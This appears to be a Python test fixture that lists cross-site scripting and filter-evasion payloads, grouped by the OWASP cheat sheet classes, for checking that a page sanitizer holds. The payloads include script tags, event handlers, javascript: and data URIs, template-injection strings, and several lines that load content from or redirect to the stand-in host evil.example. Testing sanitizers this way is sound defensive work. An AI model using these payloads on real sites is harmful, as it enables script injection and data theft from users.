"""Words with which a page might try to become part of ours, by the classes of the OWASP cheat sheet on filter evasion.

Each calls `hacked()`, or asks a host that is not ours, if a browser takes it for more than words.
"""

PAYLOADS = (
    "<script>hacked()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<img src=x onerror=hacked()>",
    "<img src='//evil.example/seen.png'>",
    '"><img src=x onerror="hacked()">',
    "' autofocus onfocus='hacked()",
    '" onmouseover="hacked()" style="position:fixed;inset:0" x="',
    "javascript:hacked()",
    "jav\tascript:hacked()",
    "JaVaScRiPt:hacked()//https://news.example",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "--><script>hacked()</script><!--",
    "<svg/onload=hacked()>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<math><mtext></table></math><img src onerror=hacked()>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<details open ontoggle=hacked()>",
    "<body onload=hacked()><input autofocus onfocus=hacked()>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>press</button></form>",
    "<a hx-get='//evil.example/' hx-trigger=load hx-on:load='hacked()'>x</a>",
    "<div data-copies=x hx-on::after-request='hacked()'></div>",
    "{{ 7 * 7 }}{% include 'failed.html' %}${hacked()}",
    "&lt;script&gt;hacked()&lt;/script&gt;&#x3c;script&#x3e;hacked()&#x3c;/script&#x3e;",
    "\\x3cscript\\x3ehacked()\\u003c/script\\u003e",
    "\u202egpj.exe\u2066 turned \ufeffround\u2069",
    "emoji \U0001f469\u200d\U0001f692 and z\u0303\u0304 and \ufdd0 and \ufdd1",
)
